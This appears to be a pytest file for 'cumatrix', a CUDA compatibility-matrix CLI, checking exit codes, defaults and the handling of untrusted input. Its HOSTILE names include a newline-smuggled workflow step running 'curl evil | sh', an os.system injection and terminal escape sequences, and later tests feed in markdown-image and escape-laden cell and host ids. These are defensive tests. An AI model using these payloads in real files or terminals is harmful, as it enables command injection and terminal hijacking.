"""A new user's first hour: installed from where cumatrix comes from, every ordinary mistake
answered with its documented exit code and one line, one default matrix, and no text from
outside (a project's name, another host's results) written raw.

Every command is the real ``cumatrix`` in a subprocess.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import tomllib
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
Cli = Callable[..., subprocess.CompletedProcess[str]]

SMALL = """\
version: 1
runtimes: {cu12.4: {wheel: nvidia-cuda-runtime-cu12==12.4.127}}
drivers: [host]
cases:
  - {name: a, argv: [python3, -c, "pass"]}
"""

# --------------------------------------------------------------------------- hostile names

HOSTILE = {
    "newline": "mypkg\n      - name: injected\n        run: curl evil | sh",
    "python": "import os;from os import system as s;s('touch pwned')",
    "escape": "pkg\x1b]52;c;cHduZWQ=\x07\x1b[2J",
}


@pytest.mark.parametrize("where", ["pyproject.toml", "setup.cfg"])
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_init_refuses_a_hostile_name_from_the_projects_files(cli: Cli, tmp_path: Path, kind: str, where: str) -> None:
    name = HOSTILE[kind]
    if where == "pyproject.toml":
        (tmp_path / where).write_text(f"[project]\nname = {json.dumps(name)}\n")
        assert tomllib.loads((tmp_path / where).read_text())["project"]["name"] == name
    else:
        (tmp_path / where).write_text("[metadata]\nname = " + name.replace("\n", "\n  ") + "\n")
    r = cli("init", cwd=tmp_path)
    assert r.returncode == 2, r.stdout + r.stderr
    assert "Traceback" not in r.stderr
    assert "not a project name" in r.stderr
    assert where in r.stderr
    assert "\x1b" not in r.stdout + r.stderr  # shown escaped, never sent to the terminal
    assert len(r.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "matrix.yaml").exists()
    assert not (tmp_path / ".github").exists()
    assert not (tmp_path / "pwned").exists()


def test_init_refuses_a_name_whose_import_is_not_an_identifier(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "3d-tools"\n')
    r = cli("init", cwd=tmp_path)
    assert r.returncode == 2, r.stderr
    assert "'3d_tools', which is not a Python identifier" in r.stderr
    assert not (tmp_path / "matrix.yaml").exists()
    ok = cli("init", "--name", "tools3d", cwd=tmp_path)
    assert ok.returncode == 0, ok.stderr
    assert '"import tools3d"' in (tmp_path / "matrix.yaml").read_text()


# --------------------------------------------------------------------------- installed from where it comes from


def test_the_repository_address_is_the_projects_own() -> None:
    from cumatrix.front.init import INSTALL_COMMAND, REPOSITORY

    urls = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["urls"]
    assert urls["Repository"] == REPOSITORY
    readme = (ROOT / "README.md").read_text()
    assert INSTALL_COMMAND in readme
    block = readme.split("## Install", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
    first = next(ln for ln in block.splitlines() if ln.strip() and not ln.startswith("#"))
    assert "pip install ." in first
    assert "pip install cumatrix" not in readme


@pytest.mark.network
def test_the_workflows_install_step_installs_cumatrix_from_a_copy_of_the_repository(cli: Cli, tmp_path: Path) -> None:
    """The step ``init`` writes, run as a runner would, with the repository's address replaced
    by a clone of this one: cumatrix is installed into a fresh venv and runs."""
    import yaml

    from cumatrix.front.init import REPOSITORY

    if shutil.which("git") is None or not (ROOT / ".git").exists():
        pytest.skip("not a git checkout (or no git): nothing to clone")
    clone = tmp_path / "cumatrix-clone"
    subprocess.run(["git", "clone", "-q", "--no-hardlinks", str(ROOT), str(clone)], check=True, timeout=300)
    project = tmp_path / "proj"
    project.mkdir()
    (project / "pyproject.toml").write_text('[project]\nname = "mypkg"\n')
    assert cli("init", cwd=project).returncode == 0
    wf = yaml.safe_load((project / ".github" / "workflows" / "cumatrix-nightly.yml").read_text())
    step = next(s for s in wf["jobs"]["run"]["steps"] if s.get("name") == "install cumatrix")
    script = str(step["run"])
    assert f"git+{REPOSITORY}" in script, script
    script = re.sub(re.escape(f"git+{REPOSITORY}") + r"(@[0-9a-f]{40})?", f"git+file://{clone}", script)
    github_path = tmp_path / "github_path"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("VIRTUAL_ENV", "PYTHON"))}
    env |= {"GITHUB_PATH": str(github_path), "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
    r = subprocess.run(["bash", "-e", "-c", script], cwd=project, env=env, capture_output=True, text=True,
                       timeout=900, check=False)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
    bindir = github_path.read_text().strip()
    assert Path(bindir) == project / ".venv" / "bin"
    v = subprocess.run([f"{bindir}/cumatrix", "--version"], capture_output=True, text=True, timeout=60, check=False)
    assert v.returncode == 0, v.stderr
    assert v.stdout.startswith("cumatrix "), v.stdout


# --------------------------------------------------------------------------- every command's ordinary mistakes


def _wheel(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("p-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("p-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: p\nVersion: 1.0\n")
        z.writestr("p-1.0.dist-info/RECORD", "")
        z.writestr("p/__init__.py", "")
    return path


#: (argv, exit code): a file where a directory belongs, a directory where a file belongs, bytes
#: that are not text, a value of thousands of digits, a number past any bound.
MISTAKES: tuple[tuple[tuple[str, ...], int], ...] = (
    (("run", "small.yaml", "--out", "FILE", "--no-history"), 3),
    (("run", "DIR"), 2),
    (("run", "huge.yaml"), 2),
    (("run", "binary.yaml"), 2),
    (("run", "small.yaml", "-n", "9" * 30, "--out", "o"), 2),
    (("run", "small.yaml", "--timeout", "1e999", "--out", "o"), 2),
    (("run", "small.yaml", "--history", "DIR", "--out", "o"), 2),
    (("validate", "huge.yaml"), 2),
    (("validate", "binary.yaml"), 2),
    (("validate", "DIR"), 2),
    (("validate", "bad-driver.yaml"), 2),
    (("plan", "huge.yaml"), 2),
    (("merge", "FILE", "--out", "m"), 2),
    (("merge", "garbage", "--out", "m"), 2),
    (("report", "FILE"), 2),
    (("report", "garbage"), 2),
    (("gate", "p-1.0-py3-none-any.whl", "--static-only", "--out", "FILE"), 3),
    (("gate", "p-1.0-py3-none-any.whl", "--out", "FILE", "--no-history"), 3),
    (("gate", "p-1.0-py3-none-any.whl", "--static-only", "--min-driver", "12.44"), 2),
    (("gate", "FILE"), 2),
    (("gate", "DIR"), 2),
    (("repro", "--bug", "vllm-undefined-symbol", "--out", "FILE"), 3),
    (("repro", "cu12.4/host/a", "--matrix", "huge.yaml"), 2),
    (("doctor", "DIR"), 2),
    (("doctor", "binary.yaml"), 2),
    (("init", "--dir", "FILE"), 2),
    (("diff", "--history", "DIR"), 2),
    (("diff", "--history", "not-a-db.sqlite"), 2),
    (("history", "--history", "not-a-db.sqlite"), 2),
    (("history", "--limit", "9" * 30, "--history", "h.sqlite"), 2),
    (("history", "--prune", "--older-than", "nan", "--history", "h.sqlite"), 2),
    (("fetch", "--dest", "FILE", "small.yaml"), 2),
    (("fetch", "--dest", "d", "huge.yaml"), 2),
    (("calibrate", "--sizes", "9" * 30 + "TiB"), 2),
    (("build", "proc-address", "--headers", "12.44"), 2),
    (("build", "proc-address", "--wheel-dir", "FILE"), 2),
    (("submit", "--slurm", "huge.yaml"), 2),
)


@pytest.fixture(scope="module")
def mistakes_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("mistakes")
    (d / "FILE").write_text("")
    (d / "DIR").mkdir()
    (d / "small.yaml").write_text(SMALL)
    (d / "huge.yaml").write_text(SMALL.replace("12.4.127", "1" * 5000))
    (d / "bad-driver.yaml").write_text(SMALL.replace("[host]", "[host, emulated-12.44]"))
    (d / "binary.yaml").write_bytes(b"\xff\xfe\x00garbage")
    (d / "garbage").mkdir()
    (d / "garbage" / "results.jsonl").write_text("not json\n")
    (d / "not-a-db.sqlite").write_text("not a database, " * 100)
    _wheel(d / "p-1.0-py3-none-any.whl")
    return d


@pytest.mark.parametrize(("argv", "code"), MISTAKES, ids=[" ".join(a)[:60] for a, _ in MISTAKES])
def test_every_commands_ordinary_mistake_is_its_documented_code_and_one_line(
        cli: Cli, mistakes_dir: Path, argv: tuple[str, ...], code: int, tmp_path: Path) -> None:
    env = {"CUMATRIX_HISTORY": str(tmp_path / "history.sqlite")}
    r = cli(*argv, cwd=mistakes_dir, env=env)
    assert "Traceback" not in r.stderr, r.stderr
    assert "internal error" not in r.stderr, r.stderr
    assert r.returncode == code, (r.returncode, r.stderr[-2000:])
    assert r.returncode != 1
    last = r.stderr.strip().splitlines()[-1]
    assert len(last) > 20, r.stderr


#: (argv, the variable that names a file where a directory belongs): the cache and the state
#: directory (the record signing key) of a host, given by its environment.
PLACES = ((("run", "small.yaml", "--out", "o", "--no-history"), "XDG_STATE_HOME"),
          (("run", "small.yaml", "--out", "o", "--no-history"), "XDG_CACHE_HOME"),
          (("clean", "--dry-run"), "XDG_CACHE_HOME"),
          (("doctor",), "XDG_CACHE_HOME"),
          (("build", "proc-address"), "XDG_CACHE_HOME"))


@pytest.mark.parametrize(("argv", "var"), PLACES, ids=[f"{' '.join(a)} {v}" for a, v in PLACES])
def test_a_file_where_the_hosts_own_directories_belong_is_exit_3(cli: Cli, mistakes_dir: Path, tmp_path: Path,
                                                                  argv: tuple[str, ...], var: str) -> None:
    shutil.copy2(mistakes_dir / "small.yaml", tmp_path / "small.yaml")
    r = cli(*argv, cwd=tmp_path, env={var: str(mistakes_dir / "FILE")})
    assert "Traceback" not in r.stdout + r.stderr, r.stdout[-3000:] + r.stderr[-3000:]
    assert r.returncode == 3, r.stderr
    assert str(mistakes_dir / "FILE") in r.stderr.strip().splitlines()[-1]


def test_a_closed_pipe_is_no_traceback(cli_env: Callable[..., dict[str, str]], tmp_path: Path) -> None:
    # More cell ids than a pipe holds (64 KiB): the command is still writing when its reader goes.
    cases = "".join(f"  - {{name: case-number-{i}, argv: [true]}}\n" for i in range(4000))
    (tmp_path / "big.yaml").write_text(SMALL.split("cases:", maxsplit=1)[0] + "cases:\n" + cases)
    p = subprocess.Popen([sys.executable, "-m", "cumatrix", "validate", "--list", "big.yaml"], stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, env=cli_env(), cwd=tmp_path)
    assert p.stdout is not None
    assert p.stderr is not None
    with p.stdout, p.stderr:
        p.stdout.readline()
        p.stdout.close()
        err = p.stderr.read().decode()
    assert p.wait(timeout=60) == 141, err
    assert "Traceback" not in err


# --------------------------------------------------------------------------- one default


def test_validate_and_plan_take_runs_matrix_and_say_so(cli: Cli, tmp_path: Path) -> None:
    r = cli("validate", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "default matrix bundled with cumatrix" in r.stderr
    (tmp_path / "matrix.yaml").write_text(SMALL)
    here = cli("validate", cwd=tmp_path)
    assert here.returncode == 0, here.stderr
    assert here.stdout.startswith("matrix.yaml: ok: 2 cells"), here.stdout
    plan = cli("plan", "--format", "json", cwd=tmp_path)  # ./matrix.yaml, not "the following arguments are required"
    assert plan.returncode == 2, plan.stderr
    assert plan.stderr.startswith("matrix.yaml:1:1: plan needs a `hosts:` section"), plan.stderr


@pytest.mark.network
def test_repro_of_a_cell_takes_the_matrix_run_took(cli: Cli, tmp_path: Path, wheel_cache: Path) -> None:
    # A run with no matrix.yaml here ran the bundled default: a cell id of that run is found again.
    r = cli("repro", "cu12.9/host/import-ctypes", "--out", "o", cwd=tmp_path)
    assert "no such matrix file" not in r.stderr
    assert "default matrix bundled with cumatrix" in r.stderr, r.stderr
    assert r.returncode == 0, r.stderr
    assert "cell cu12.9/host/import-ctypes behaves as expected (ok): nothing to reproduce" in r.stdout


def test_suggestions_and_min_driver_pick_a_release_that_exists(cli: Cli, tmp_path: Path) -> None:
    (tmp_path / "m.yaml").write_text(SMALL.replace("[host]", "[host, emulated-12.44]"))
    r = cli("validate", "m.yaml", cwd=tmp_path)
    assert r.returncode == 2
    assert "did you mean '12.4'?" in r.stderr, r.stderr
    g = cli("gate", _wheel(tmp_path / "p-1.0-py3-none-any.whl"), "--static-only", "--min-driver", "12.44",
            cwd=tmp_path)
    assert g.returncode == 2
    assert "no CUDA 12.44 release (did you mean '12.4'?)" in g.stderr, g.stderr


#: Where the docs say an option's default: which command's help must say the same.
_DOC_COMMANDS = {"repro.md": "repro", "howto-gate.md": "gate", "gate.md": "gate", "history.md": "diff"}


def test_help_and_docs_name_the_same_defaults(cli: Cli) -> None:
    """Every "`--opt` (default X)" of the docs is the default that command's --help gives."""
    said = []
    for doc in sorted((ROOT / "docs").glob("*.md")):
        for opt, value in re.findall(r"`(--[a-z-]+)` \(default:? `?([^`)]+)`?\)", doc.read_text()):
            assert doc.name in _DOC_COMMANDS, f"{doc.name} names the default of {opt}: map it to its command here"
            help_text = " ".join(cli(_DOC_COMMANDS[doc.name], "--help").stdout.split())
            entry = help_text.split(" options: ", 1)[1].split(f" {opt} ", 1)[1].split(" --", 1)[0]
            got = re.search(r"\(default:? ([^);]+)[);]", entry)
            assert got is not None, (doc.name, opt, entry)
            assert got.group(1).strip() == value.strip(), (doc.name, opt, value, got.group(1))
            said.append((doc.name, opt))
    assert ("repro.md", "--out") in said
    repro = " ".join(cli("repro", "--help").stdout.split())
    assert "else the default matrix bundled with cumatrix" in repro


# --------------------------------------------------------------------------- other hosts' results


def _run_dir(d: Path, cell_id: str, host: str = "h1") -> Path:
    """A results directory of another host, as its file reaches this one (its seal is not this
    user's, so nothing vouches for it)."""
    d.mkdir(parents=True)
    header = {"type": "run", "schema": 1, "run_id": f"run-{host}", "matrix": "m.yaml", "matrix_sha256": "0" * 64,
              "started": "2026-01-01T00:00:00Z", "host": host, "cells": [cell_id], "cells_total": 1,
              "harness_version": "0.1.0", "backend": "local", "host_fingerprint": {}}
    cell = {"type": "cell", "schema": 1, "id": cell_id, "host": host,
            "axes": {"runtime": "cu12.4", "driver": "host", "kind": "command", "case": "a"},
            "expected": {"outcomes": ["ok"], "rule": "command-default", "reason": "exits 0"},
            "observed": {"outcome": "ok", "path": "n/a", "detail": "", "error_name": None, "exit_status": 0},
            "status": "pass", "mismatch": None, "fingerprint": {}, "timings": {"wall_s": 0.1},
            "stderr_tail": "", "stdout_tail": "", "started": "2026-01-01T00:00:00Z", "duration_s": 0.1}
    end = {"type": "end", "schema": 1, "finished": "2026-01-01T00:00:01Z", "interrupted": False}
    (d / "results.jsonl").write_text("".join(json.dumps(x) + "\n" for x in (header, cell, end)))
    return d


def test_merge_refuses_a_cell_id_with_a_newline_and_names_the_record(cli: Cli, tmp_path: Path) -> None:
    evil = "cu12.4/host/a\n```\n![x](https://example.invalid/x.png)"
    good = _run_dir(tmp_path / "good", "cu12.4/host/a", host="h1")
    bad = _run_dir(tmp_path / "bad", evil, host="h2")
    r = cli("merge", good, bad, "--out", tmp_path / "merged", "--no-history", cwd=tmp_path)
    assert r.returncode == 2, r.stdout + r.stderr
    assert "Traceback" not in r.stderr
    assert "bad/results.jsonl" in r.stderr
    assert "holds a newline or a control character" in r.stderr
    assert "\n```" not in r.stderr
    assert "\n![x]" not in r.stderr
    assert not (tmp_path / "merged" / "summary.md").exists()
    esc = _run_dir(tmp_path / "esc", "cu12.4/host/a", host="h3\x1b]0;owned\x07")
    r = cli("merge", good, esc, "--out", tmp_path / "merged", "--no-history", cwd=tmp_path)
    assert r.returncode == 2, r.stdout + r.stderr
    assert "\x1b" not in r.stderr


def test_diff_prints_a_stored_cell_id_on_one_line() -> None:
    """A history written before merge checked names may hold such an id: diff shows it escaped."""
    from cumatrix.results.history import CellKey, StoredRun
    from cumatrix.results.historydiff import Change, Diff, to_text

    evil = "cu12.4/host/a\n```\n![x](https://example.invalid/x.png)"
    run = StoredRun(id=1, run_uid="r", kind="run", recorded="t", started=None, finished=None, matrix="m.yaml",
                    digest="0" * 64, host="", fingerprint={}, harness_version=None, git_commit=None, verdict="PASS",
                    passed=1, failed=0, skipped=0, not_run=0)
    d = Diff(a=run, b=run, window=5, changed=(Change(cell=CellKey(name=evil), before=None, after=None),))
    text = to_text(d)
    assert "\n```" not in text, text
    assert "\n![x]" not in text, text
    assert "cu12.4/host/a\\x0a```\\x0a![x]" in text


# --------------------------------------------------------------------------- one set of numbers

NUMBERS = """\
version: 1
runtimes: {cu12.9: {wheel: nvidia-cuda-runtime-cu12==12.9.79}}
drivers: [host, emulated-12.4]
builds: ["12.8", "13.0"]
variants: [direct-link, proc-address]
workloads:
  - {name: w, direction: d2h, block_bytes: 16384, blocks: 8, layers: 1}
cases:
  - {name: a, argv: [true]}
"""


NUMBERS_DOCKER = """\
version: 1
runtimes: {cu12.9: {wheel: nvidia-cuda-runtime-cu12==12.9.79}}
drivers: [host, emulated-12.4]
cases:
  - {name: a, argv: [true]}
"""


def _numbers(r: subprocess.CompletedProcess[str], out: Path) -> tuple[int, int, int, str]:
    """(cells the first line says need a GPU, skipped:no-cuda-driver in the headline, the same
    in results.json, summary.md's text) of a run."""
    first = re.search(r"no CUDA driver on this host: (\d+) of (\d+) cells need a GPU", r.stderr)
    assert first is not None, r.stderr
    head = re.search(r"cumatrix: \w[\w ]* — .*", r.stdout + r.stderr)
    assert head is not None, r.stdout + r.stderr
    said = re.search(r"(\d+) skipped:no-cuda-driver", head.group(0))
    doc = json.loads((out / "results.json").read_text())
    in_json = sum(1 for c in doc["cells"] if c["observed"]["outcome"] == "skipped:no-cuda-driver")
    summary = (out / "summary.md").read_text()
    assert head.group(0).removeprefix("cumatrix: ") in summary.replace("**", "") or doc["headline"] == head.group(0)
    return int(first.group(1)), int(said.group(1)) if said else 0, in_json, head.group(0)


@pytest.mark.network
@pytest.mark.parametrize("backend", ["local", "docker"])
def test_the_first_line_the_headline_and_the_reports_count_the_same_gpu_cells(
        cli: Cli, tmp_path: Path, wheel_cache: Path, backend: str) -> None:
    from cumatrix.host.fingerprint import host_fingerprint

    if host_fingerprint().get("driver_version") is not None:
        pytest.skip("this host has a driver: no cell is skipped for want of one")
    extra: list[str] = []
    if backend == "docker":
        from tests.integration.test_docker_env_runtime import _base_image

        extra = ["--base-image", _base_image()]
    # The docker backend runs no reference variants (they are the local backend's): its cases and probes.
    (tmp_path / "m.yaml").write_text(NUMBERS if backend == "local" else NUMBERS_DOCKER)
    out = tmp_path / "out"
    r = cli("run", "m.yaml", "--backend", backend, "--out", out, "--no-history", *extra, cwd=tmp_path, timeout=600)
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    first, headline, in_json, head = _numbers(r, out)
    assert first == headline == in_json, (first, headline, in_json, head)
    assert "runtime cu12.9: wheel nvidia-cuda-runtime-cu12==12.9.79" in r.stderr  # the runtime lines, both backends
    doc = json.loads((out / "results.json").read_text())
    assert doc["counts"]["skip"] == sum(int(n) for n in re.findall(r"(\d+) skipped:[\w-]+", head))


@pytest.mark.network
def test_without_gcc_the_headline_names_every_reason_for_a_skip(tmp_path: Path, wheel_cache: Path) -> None:
    from tests.integration.test_wheel_without_gcc import _env, without_compiler

    from cumatrix.host.fingerprint import host_fingerprint

    if host_fingerprint().get("driver_version") is not None:
        pytest.skip("this host has a driver: no cell is skipped for want of one")
    (tmp_path / "m.yaml").write_text(NUMBERS)
    out = tmp_path / "out"
    env = _env(tmp_path, wheel_cache)
    r = without_compiler([sys.executable, "-m", "cumatrix", "run", "m.yaml", "--out", str(out), "--no-history"],
                         tmp=tmp_path, env=env | {"PYTHONPATH": str(ROOT / "src")}, cwd=tmp_path)
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    first, headline, in_json, head = _numbers(r, out)
    assert first == headline == in_json, (first, headline, in_json, head)
    assert "skipped:no-compiler" in head
    assert "other reason" not in head


def test_a_setpriv_the_sandbox_hides_is_named_as_such(cli: Cli, tmp_path: Path) -> None:
    """Root drops a cell's uid with setpriv, run inside the sandbox: one found outside the system
    directories is there but cannot be reached, and the fix says so (not "install setpriv")."""
    setpriv = shutil.which("setpriv")
    if os.geteuid() != 0 or setpriv is None or shutil.which("bwrap") is None:
        pytest.skip("needs root, setpriv and bubblewrap (the root sandbox's own path)")
    hidden = tmp_path / "bin"
    hidden.mkdir()
    shutil.copy2(setpriv, hidden / "setpriv")
    (tmp_path / "m.yaml").write_text(SMALL)
    r = cli("run", "m.yaml", "--require-sandbox", "--out", "o", "--no-history", cwd=tmp_path,
            env={"PATH": f"{hidden}{os.pathsep}{os.environ.get('PATH', '')}"})
    assert r.returncode == 3, r.stderr
    assert f"its setpriv ({hidden}/setpriv) lies outside the directories the sandbox shows" in r.stderr
    assert "install util-linux's setpriv" not in r.stderr


@pytest.mark.network
def test_merge_verifies_the_records_it_can_and_names_the_hosts_it_cannot(cli: Cli, tmp_path: Path,
                                                                       wheel_cache: Path) -> None:
    (tmp_path / "m.yaml").write_text(SMALL)
    other_key = {"XDG_STATE_HOME": str(tmp_path / "other-machine")}  # another machine's signing key
    for host, env in (("h1", None), ("h2", None), ("h3", other_key)):
        r = cli("run", "m.yaml", "--host", host, "--out", host, "--no-history", cwd=tmp_path, env=env)
        assert r.returncode == 0, r.stderr
    first = json.loads((tmp_path / "h1" / "results.jsonl").read_text().splitlines()[1])
    assert re.fullmatch(r"[0-9a-f]{16}", first["key_id"]), first
    ok = cli("merge", "h1", "h2", "--out", "m12", "--no-history", cwd=tmp_path)
    assert ok.returncode == 0, ok.stderr
    assert "not verifiable" not in ok.stderr
    foreign = cli("merge", "h1", "h3", "--out", "m13", "--no-history", cwd=tmp_path)
    assert foreign.returncode == 0, foreign.stderr
    assert "host h3: 2 records not verifiable here (sealed with key " in foreign.stderr
    assert "host h1" not in foreign.stderr
    assert "host h3: 2 records not verifiable here" in (tmp_path / "m13" / "summary.md").read_text()
    # A record that names this user's key and was edited after it was sealed is refused, its line named.
    lines = (tmp_path / "h2" / "results.jsonl").read_text().splitlines()
    at = next(i for i, ln in enumerate(lines) if '"type":"cell"' in ln and '"status":"pass"' in ln)
    lines[at] = lines[at].replace('"wall_s":', '"wall_s":1', 1)
    (tmp_path / "h2" / "results.jsonl").write_text("\n".join(lines) + "\n")
    edited = cli("merge", "h1", "h2", "--out", "m12b", "--no-history", cwd=tmp_path)
    assert edited.returncode == 2, edited.stderr
    assert f"h2/results.jsonl:{at + 1}: the record of cell" in edited.stderr
    assert "names this user's key, but its seal does not match its content" in edited.stderr


def test_repro_bug_without_a_compiler_writes_its_skeleton_and_says_what_to_install(tmp_path: Path) -> None:
    from tests.integration.test_wheel_without_gcc import without_compiler

    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST_", "PYTHONPATH"))}
    env |= {"PYTHONPATH": str(ROOT / "src"), "XDG_CACHE_HOME": str(tmp_path / "fresh-cache")}
    r = without_compiler([sys.executable, "-m", "cumatrix", "repro", "--bug", "vllm-undefined-symbol", "--out", "out"],
                         tmp=tmp_path, env=env, cwd=tmp_path)
    assert r.returncode == 3, r.stdout + r.stderr
    assert "Traceback" not in r.stderr
    assert "needs gcc to build its variants, and there is no gcc on PATH (install it: apt-get install gcc" in r.stderr
    assert "cc=" not in r.stdout + r.stderr
    report = (tmp_path / "out" / "vllm-undefined-symbol.md").read_text()
    assert report.startswith("# vllm-undefined-symbol: not run here")
    assert "cumatrix repro --bug vllm-undefined-symbol --out out" in report


@pytest.mark.network  # pip's isolated build takes setuptools from the index
def test_a_fresh_clone_then_the_readmes_first_two_commands_without_gcc(tmp_path: Path, wheel_cache: Path) -> None:
    """The README's first two commands, word for word, in a clone, on a host without a compiler
    (and here without a GPU): both succeed and say what they did not test."""
    from tests.integration.test_wheel_without_gcc import _env, without_compiler

    if shutil.which("git") is None or not (ROOT / ".git").exists():
        pytest.skip("not a git checkout (or no git): nothing to clone")
    clone = tmp_path / "cumatrix"
    subprocess.run(["git", "clone", "-q", "--no-hardlinks", str(ROOT), str(clone)], check=True, timeout=300)
    readme = (ROOT / "README.md").read_text()
    block = readme.split("## Install", 1)[1].split("```sh", 1)[1].split("```", 1)[0]
    first_two = [ln.split("  #", 1)[0].strip() for ln in block.splitlines() if ln.strip() and not ln.startswith("#")][:2]
    assert first_two[1] == "cumatrix run", first_two
    env = _env(tmp_path, wheel_cache)
    env.pop("VIRTUAL_ENV", None)
    script = " && ".join(first_two) + " > run.out 2> run.err"
    r = without_compiler(["bash", "-c", script], tmp=tmp_path, env=env, cwd=clone, timeout=1200)
    out, err = (clone / "run.out").read_text(), (clone / "run.err").read_text()
    assert r.returncode == 0, r.stderr[-3000:] + err[-3000:]
    assert "evidence missing on this host" in err  # what no cell was observed by
    assert "skipped:no-compiler" in err
    gpu = re.search(r"no CUDA driver on this host: (\d+) of (\d+) cells need a GPU", err)
    head = re.search(r"cumatrix: PASS — .*", out)
    assert head is not None, out[-2000:]
    if gpu is not None:
        assert f"{gpu.group(1)} skipped:no-cuda-driver" in head.group(0), (gpu.group(0), head.group(0))
